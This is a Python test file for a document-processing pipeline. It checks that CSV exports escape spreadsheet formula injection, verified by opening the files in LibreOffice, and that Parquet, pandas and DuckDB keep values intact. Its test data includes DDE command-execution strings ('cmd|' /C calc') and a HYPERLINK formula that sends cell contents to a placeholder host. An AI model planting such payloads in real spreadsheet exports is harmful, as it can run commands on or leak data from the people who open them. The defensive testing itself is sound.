"""CSV cells that a spreadsheet would run are escaped, checked with a real spreadsheet program
(LibreOffice), while the values analysts need survive pandas and DuckDB unchanged."""
import shutil
import subprocess

import pandas as pd
import pyarrow.parquet as pq
import pytest
from typer.testing import CliRunner

from pipeline.cli import app
from pipeline.tables import SCHEMAS, write_table
from tests.generated import PLAN

runner = CliRunner()
FORMULAS = ['=HYPERLINK("http://x.invalid/?"&A1,"bấm")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1"]
KEPT = ["-1", "--12-31", "---10", "- Tổ chức hội thi", "+84 28 3822 1234", "IV/1/-2", "=", "-"]


def _sections(values: list[str]) -> list[dict]:
    return [{"doc_id": "d", "section_index": i, "path": v, "heading": v} for i, v in enumerate(values)]


def test_formula_cells_get_an_apostrophe_and_the_rest_round_trip(tmp_path):
    write_table(tmp_path, "sections", _sections(FORMULAS + KEPT))
    expected = pq.read_table(tmp_path / "sections.parquet").column("heading").to_pylist()
    assert expected == FORMULAS + KEPT                                  # Parquet holds the values as they are
    want = ["'" + v for v in FORMULAS] + ["'" + v if v == "=" else v for v in KEPT]
    frame = pd.read_csv(tmp_path / "sections.csv", dtype=str, keep_default_na=False)
    assert frame["heading"].tolist() == want and frame["path"].tolist() == want
    import duckdb
    rows = duckdb.sql(f"SELECT heading FROM read_csv('{tmp_path / 'sections.csv'}', all_varchar=true) "
                      f"ORDER BY CAST(section_index AS INTEGER)").fetchall()
    assert [r[0] for r in rows] == want


def test_libreoffice_evaluates_no_cell_of_any_table(tmp_path):
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if not soffice:
        pytest.skip("LibreOffice is not installed")
    openpyxl = pytest.importorskip("openpyxl")
    src = tmp_path / "in"
    src.mkdir()
    hostile = PLAN.replace("1. Tổ chức ra quân.", "1. Tổ chức ra quân.\n" + "\n".join(f"- {f.strip()}" for f in FORMULAS))
    (src / "=HYPERLINK(1).txt").write_text(hostile + "Nơi nhận:\n" + "\n".join(f"{f.strip()};" for f in FORMULAS),
                                           encoding="utf-8")
    out = tmp_path / "out"
    assert runner.invoke(app, ["run", str(src), "--out", str(out), "-q"]).exit_code == 0
    csvs = [str(out / f"{name}.csv") for name in SCHEMAS]
    # "Evaluate formulas" on (the 13th token), the strictest way to open a CSV
    result = subprocess.run([soffice, f"-env:UserInstallation=file://{tmp_path}/lo", "--headless",
                             "--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true",
                             "--convert-to", "xlsx", "--outdir", str(tmp_path / "xlsx"), *csvs],
                            capture_output=True, text=True, timeout=240)
    books = sorted((tmp_path / "xlsx").glob("*.xlsx")) if (tmp_path / "xlsx").exists() else []
    if not books and "could not be loaded" in result.stdout + result.stderr:
        pytest.skip("LibreOffice cannot open CSV here (Calc is not installed)")
    assert len(books) == len(SCHEMAS), result.stdout + result.stderr
    texts = []
    for book in books:
        for row in openpyxl.load_workbook(book).active.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (book.name, cell.coordinate, cell.value)
                texts.append(str(cell.value))
    # the hostile text did reach the tables, as inert text
    assert sum("HYPERLINK" in t for t in texts) >= 3 and any("cmd|" in t for t in texts)


@pytest.mark.parametrize("values", [
    KEPT,                                   # no cell opens with a risky character but '-' and '=': checked in full
    ["Tổ chức", "Kế hoạch", None, ""],      # no cell opens with one: the column is left as it is
    [None, None],
    ["a", "b", None, "=1+1"],               # the one risky cell is the last
    FORMULAS + [None] + KEPT,
])
def test_the_first_character_prefilter_changes_no_cell(values):
    import pyarrow as pa
    import pyarrow.compute as pc

    from pipeline.tables import RISKY_CELL, spreadsheet_safe

    col = pa.array(values, pa.string())
    risky = pc.fill_null(pc.match_substring_regex(col, RISKY_CELL), False)
    plain = pc.if_else(risky, pc.binary_join_element_wise("'", col, ""), col)
    assert spreadsheet_safe(pa.table({"heading": col})).column("heading").combine_chunks().equals(plain)
